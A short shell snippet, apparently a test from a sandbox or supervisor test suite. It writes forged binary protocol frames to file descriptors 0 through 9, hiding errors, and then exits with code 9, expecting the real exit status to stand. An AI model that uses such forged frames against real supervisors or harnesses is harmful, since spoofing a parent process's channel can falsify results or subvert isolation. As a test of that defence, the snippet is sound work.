# The same from a shell: the forged frames to descriptors 0 to 9, then exit 9. Right: EXITED 9.
for fd in 0 1 2 3 4 5 6 7 8 9; do
  { printf '\004\000\000\000\042\002\010\000\002\000\000\000\072\000' >&$fd; } 2>/dev/null
done
exit 9
